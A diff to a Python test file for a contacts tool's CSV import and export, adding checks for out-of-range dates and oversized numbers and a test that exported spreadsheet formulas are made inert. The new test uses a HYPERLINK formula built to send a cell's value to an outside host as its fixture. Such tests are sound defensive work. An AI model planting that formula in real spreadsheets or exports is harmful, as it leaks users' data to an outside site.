@@ -80,11 +80,13 @@ def test_import_keeps_good_rows_and_reports_bad_ones_by_line(folder, database, c
         "+61400000005,Eve,,,,klingon language\n"
         "+61 400 000 001,Ana again,,,,\n"
         "+64211234567,Fay,2026-12-10 14:30,,no,\n"
+        "+61400000006,Gus,0001-01-01 00:00,,,\n"
+        f"+61400000007,Hal,,{'9' * 400},,\n"
     )
     assert run("import", "people.csv") == 1
     out, err = capsys.readouterr()
     assert "2 created, 0 updated, 0 unchanged, 0 already contacts" in out
-    assert "5 bad rows" in out
+    assert "7 bad rows" in out
     assert err.splitlines() == [
         "people.csv:3: number: '0400000002' is not in international format (+ and country code)",
         "people.csv:4: field 'appointment_at': 'next week' is not a date and time "
@@ -93,6 +95,9 @@ def test_import_keeps_good_rows_and_reports_bad_ones_by_line(folder, database, c
         "people.csv:6: language 'klingon language' is not a language code: give one such as "
         "'es', 'mi' or 'pt-br'",
         "people.csv:7: +61400000001 is on line 2 too",
+        "people.csv:9: field 'appointment_at': datetime.datetime(1, 1, 1, 0, 0) is outside "
+        "the years 1 to 9999 in UTC",
+        f"people.csv:10: field 'visits': {'9' * 57}... is not a finite number of at most 1.8e+308",
     ]
     ana = contact(database, "+61400000001")
     assert (ana.name, ana.language, ana.fields["visits"], ana.fields["reminders"]) == (
@@ -166,6 +171,21 @@ def test_export_writes_what_import_reads_back(folder, database, capsys, tmp_path
     # Read back into the same database, nothing changes.
     assert run("import", "out.csv", "--update") == 0
     assert "0 created, 0 updated, 2 unchanged" in capsys.readouterr().out
+
+
+def test_export_makes_a_formula_inert_and_import_reads_it_back(folder, database, capsys):
+    """A name a handset texted may be a spreadsheet formula: the export writes it as
+    text (a leading '), and the import reads back the name it was."""
+    formula = "=HYPERLINK('http://example.com/?'&A1)"
+    (folder / "people.csv").write_text(f"number,name\n+61400000001,{formula}\n")
+    assert run("import", "people.csv") == 0
+    assert run("export", "--output", "out.csv") == 0
+    rows = list(csv.reader(io.StringIO((folder / "out.csv").read_text())))
+    assert rows[1][:2] == ["+61400000001", "'" + formula]
+    capsys.readouterr()
+    assert run("import", "out.csv", "--update") == 0
+    assert "0 created, 0 updated, 1 unchanged" in capsys.readouterr().out
+    assert contact(database, "+61400000001").name == formula
 
 
 def test_an_import_plans_the_campaigns_of_what_it_sets(folder, database, capsys):
